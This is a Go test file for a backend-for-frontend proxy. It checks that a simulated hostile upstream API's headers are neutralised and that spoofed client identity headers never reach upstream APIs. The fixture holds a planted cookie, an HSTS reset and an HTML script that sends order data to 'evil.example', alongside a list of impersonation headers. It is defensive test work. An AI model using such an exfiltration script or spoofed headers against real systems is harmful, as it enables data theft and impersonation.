package bff_test

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/bff-project/bff/bff"
	"github.com/bff-project/bff/bff/config"
	"github.com/bff-project/bff/e2e/harness"
)

// hostileAPI answers like a compromised or careless internal API would:
// an HTML page without Content-Type, and headers that act on the whole
// origin.
func hostileAPI(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h["Content-Type"] = nil
		h.Set("Strict-Transport-Security", "max-age=0")
		h.Set("Service-Worker-Allowed", "/")
		h.Set("Clear-Site-Data", `"cookies"`)
		h.Set("Set-Cookie", "__Host-bff=planted; Path=/; Secure; HttpOnly")
		h.Set("X-Accel-Redirect", "/internal/")
		h.Set("Location", "http://"+r.Host+"/api/hostile/next")
		h.Set("WWW-Authenticate", `Basic realm="Your bank"`)
		io.WriteString(w, "<html><script>fetch('/api/orders/').then(r=>r.text()).then(t=>new Image().src='//evil.example/?'+t)</script>")
	}))
	t.Cleanup(srv.Close)
	return srv
}

// Issue 13: an upstream reply reached the browser able to act on the app's
// origin. Through the whole BFF, what a hostile API sends stays inert and
// the origin's policies are the BFF's.
func TestHostileAPIAnswersAreInert(t *testing.T) {
	api := hostileAPI(t)
	r := newRig(t, harness.Options{Config: func(c *bff.Config) {
		c.APIs = append(c.APIs,
			config.APIConfig{Prefix: "/api/hostile/", Upstream: api.URL, Token: "none"},
			config.APIConfig{Prefix: "/api/own-csp/", Upstream: api.URL, Token: "none", PassthroughCSP: true})
	}})
	resp, _ := r.call(t, http.MethodGet, "/api/hostile/page", nil, nil)
	h := resp.Header
	checks := map[string]string{
		"Content-Type":              "application/octet-stream",
		"X-Content-Type-Options":    "nosniff",
		"Content-Security-Policy":   "default-src 'none'; frame-ancestors 'none'; sandbox",
		"Strict-Transport-Security": "max-age=31536000",
		"Location":                  "/api/hostile/next",
		"Service-Worker-Allowed":    "",
		"Clear-Site-Data":           "",
		"Set-Cookie":                "",
		"X-Accel-Redirect":          "",
		"Www-Authenticate":          "",
	}
	for name, want := range checks {
		if got := strings.Join(h.Values(name), " | "); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	resp, _ = r.call(t, http.MethodGet, "/api/own-csp/page", nil, nil)
	if got := resp.Header.Values("Content-Security-Policy"); len(got) != 0 {
		t.Errorf("passthrough_csp route Content-Security-Policy = %q, want none", got)
	}
	if got := resp.Header.Get("X-Content-Type-Options"); got != "nosniff" {
		t.Errorf("passthrough_csp route X-Content-Type-Options = %q, want nosniff", got)
	}
}

// Issue 13: headers a browser sends to pose as an identity or address to
// the API reached it unchanged through the BFF.
func TestClientClaimsDoNotReachAPIs(t *testing.T) {
	up := newRecUpstream(t, "echo")
	r := newRig(t, harness.Options{Config: addRoute(config.APIConfig{Prefix: "/api/echo/", Upstream: up.srv.URL, StripPrefix: true})})
	hdr := http.Header{}
	for _, name := range []string{"X-Forwarded-User", "X-Auth-Request-User", "Remote-User", "Client-Ip", "X-Envoy-External-Address",
		"X-Host", "X-Scheme", "X-Forwarded-Path", "X-Ms-Client-Principal-Name", "Impersonate-User", "X_Forwarded_Email"} {
		hdr[name] = []string{"admin"}
	}
	hdr.Set("Connection", "X-Request-Id")
	if resp, body := r.call(t, http.MethodGet, "/api/echo/x", hdr, nil); resp.StatusCode != http.StatusOK {
		t.Fatalf("GET /api/echo/x = %d %s", resp.StatusCode, body)
	}
	got := up.last(t)
	for name, v := range got.Header {
		if strings.Join(v, ",") == "admin" {
			t.Errorf("upstream got %s: %q", name, v)
		}
	}
	if got.Header.Get("X-Request-Id") == "" {
		t.Error("Connection: X-Request-Id removed the BFF's request ID")
	}
}
